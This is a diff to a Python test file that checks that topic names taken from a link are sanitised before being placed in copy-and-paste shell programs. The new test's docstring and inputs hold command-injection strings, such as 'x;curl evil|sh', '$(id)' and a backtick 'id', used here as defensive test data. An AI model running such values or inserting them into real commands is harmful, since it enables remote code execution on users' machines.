@@ -8,7 +8,7 @@ from typing import Any
 
 import pytest
 
-from millstream.console.snippets import SNIPPETS, Connection
+from millstream.console.snippets import SNIPPETS, Connection, topic_of_link
 from millstream.testing import EmbeddedBroker
 from tests.mirrors import make_source_topic, produce
 from tests.system.console.conftest import GatewayProcess, Looking
@@ -82,6 +82,13 @@ def test_programs_have_the_security_settings_and_no_secret() -> None:
     by_token = Connection("one:9092", "orders", "SASL_SSL", "OAUTHBEARER")
     assert "sasl.oauthbearer.method=oidc" in SNIPPETS["kcat"](by_token)
     assert "identity provider" in SNIPPETS["Java"](by_token) and "PASSWORD" not in SNIPPETS["Node"](by_token)
+
+
+def test_a_link_puts_only_names_of_topics_into_programs() -> None:
+    """A program is copied into a shell: `?topic=x;curl evil|sh` must not be in it."""
+    assert topic_of_link("shop.orders-1_a") == "shop.orders-1_a"
+    for text in ("x;curl evil|sh", "$(id)", "`id`", 'x" -t y', "x\nid", "..", "x" * 250, ""):
+        assert topic_of_link(text) == ""
 
 
 def test_a_mirror_link_from_its_creation_to_the_failover(
